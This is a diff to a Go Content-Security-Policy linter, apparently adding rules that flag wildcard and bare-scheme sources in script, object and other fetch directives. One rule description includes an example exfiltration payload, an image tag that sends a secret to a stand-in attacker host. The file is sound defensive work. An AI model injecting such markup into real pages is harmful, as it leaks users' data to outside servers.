@@ -4,7 +4,8 @@ package lint
 // Connect); CSP2xxx are about scripts and plugins that fall back to
 // default-src, checked because default-src is shared with connect requests
 // (scope Scripts); CSP3xxx are about how any directive is written (scope
-// Writing).
+// Writing); CSP4xxx are about what the other fetch directives let a page
+// load (scope Loads).
 const (
 	Unrestricted         Code = "CSP1001"
 	ReportOnly           Code = "CSP1002"
@@ -33,6 +34,9 @@ const (
 	DeprecatedDirective  Code = "CSP3004"
 	DuplicateSource      Code = "CSP3005"
 	RedundantSource      Code = "CSP3006"
+	ScriptsFromAnywhere  Code = "CSP4001"
+	PluginsFromAnywhere  Code = "CSP4002"
+	LoadsFromAnywhere    Code = "CSP4003"
 )
 
 // Rule documents one Code: what it finds, how severe it is, and which
@@ -127,6 +131,15 @@ var rules = [...]Rule{
 		""},
 	{RedundantSource, Info, Writing, "Redundant source",
 		"A directive lists a source that another source of the same directive already covers in every engine, such as `https://example.com:443` beside `https://example.com` or `https://api.example.com` beside `https://*.example.com`: it allows nothing more.",
+		""},
+	{ScriptsFromAnywhere, High, Loads, "Scripts from anywhere",
+		"script-src, script-src-elem or worker-src has `*`, a host-source whose host is `*`, or a bare `http:`, `https:` or `data:`: an injected script tag runs code from any server (or from a data: URL it wrote itself). Not reported for script-src or script-src-elem with 'strict-dynamic' and a nonce or hash, where browsers ignore host and scheme sources.",
+		"PLAIN_WILDCARD, PLAIN_URL_SCHEMES (script-src)"},
+	{PluginsFromAnywhere, High, Loads, "Plugins from anywhere",
+		"object-src has `*`, a host-source whose host is `*`, or a bare `http:`, `https:` or `data:`: `<object>` and `<embed>` load content from any server. Set object-src 'none'.",
+		"PLAIN_WILDCARD, PLAIN_URL_SCHEMES (object-src)"},
+	{LoadsFromAnywhere, Low, Loads, "Images, media, fonts, styles or frames from anywhere",
+		"img-src, media-src, font-src, style-src(-elem), frame-src, child-src or manifest-src has `*`, a host-source whose host is `*`, or a bare `http:` or `https:`. Common and often intended, but each such load is a request to any server that injected markup controls, so connect-src alone does not keep data in: an `<img src=https://evil.example/?secret>` sends it.",
 		""},
 }
 
